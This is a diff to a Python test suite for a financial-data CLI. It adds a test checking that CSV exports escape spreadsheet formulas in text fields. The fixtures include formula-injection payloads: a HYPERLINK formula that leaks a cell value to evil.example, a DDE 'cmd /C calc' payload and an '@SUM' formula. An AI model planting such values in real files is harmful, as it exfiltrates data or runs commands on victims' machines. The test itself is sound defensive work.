@@ -3,6 +3,8 @@ DATAHARVEST_HOME, the example drop, status, registry listing, export, down."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import subprocess
@@ -103,3 +105,65 @@ def test_remove_retracts_the_input_and_what_derives_from_it(home):
     )
     assert export.returncode == 0, export.stderr
     assert json.loads(export.stdout) == []
+
+
+HOSTILE_LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+HOSTILE_DROP = {
+    "clients_20240102.csv": (
+        "record_id,first_name,last_name,client_reference,tax_free_allowance\n"
+        '1,Eve,Evil,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",100.00\n'
+    ),
+    "accounts_20240102.csv": (
+        "record_id,account_number,cash_balance,currency,taxes_paid\n1,500,-12.50,EUR,1.25\n"
+    ),
+    "portfolios_20240102.csv": (
+        "record_id,account_number,portfolio_reference,client_reference,agent_code\n"
+        '1,500,@SUM(A1),"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",A7\n'
+    ),
+    "transactions_20240102.csv": (
+        "record_id,account_number,transaction_reference,amount,keyword\n"
+        "1,500,+1+cmd|' /C calc'!A0,-3.00,DEPOSIT\n"
+        + "".join(f"{i},500,T{i},1.00,TAX\n" for i in range(2, 11))
+        + "11,500,T11,-2+3,DEPOSIT\n"
+    ),
+}
+
+
+def test_csv_exports_neutralise_formulas_in_text_never_in_numbers(home, tmp_path):
+    client = "hostile-drop"
+    for name, body in HOSTILE_DROP.items():
+        (tmp_path / name).write_text(body)
+    result = cli(home, "run", str(tmp_path), "--client", client, "--json")
+    assert result.returncode == 0, result.stderr
+
+    def export(table: str, *extra: str) -> str:
+        done = cli(home, "export", table, "--client", client, "--date", "2024-01-02", *extra)
+        assert done.returncode == 0, done.stderr
+        return done.stdout
+
+    assert export("portfolio-summary") == (
+        "portfolio_reference,client_reference,account_number,cash_balance,"
+        "number_of_transactions,sum_of_deposits\n"
+        '\'@SUM(A1),"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",500,-12.50,10,'
+        "-3.00\n"
+    )
+    assert export("client-tax") == (
+        "client_reference,tax_free_allowance,taxes_paid\n"
+        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",100.00,1.25\n'
+    )
+    rejected = list(csv.DictReader(io.StringIO(export("rejections"))))
+    assert [(r["line_number"], r["column_name"], r["value"]) for r in rejected] == [
+        ("12", "amount", "'-2+3")
+    ]
+    # --raw prints what is stored; JSON is never touched.
+    raw = list(csv.DictReader(io.StringIO(export("portfolio-summary", "--raw"))))
+    assert [(r["portfolio_reference"], r["client_reference"]) for r in raw] == [
+        ("@SUM(A1)", HOSTILE_LINK)
+    ]
+    assert [r["value"] for r in csv.DictReader(io.StringIO(export("rejections", "--raw")))] == [
+        "-2+3"
+    ]
+    as_json = json.loads(export("client-tax", "--format", "json"))
+    assert as_json == [
+        {"client_reference": HOSTILE_LINK, "tax_free_allowance": "100.00", "taxes_paid": "1.25"}
+    ]
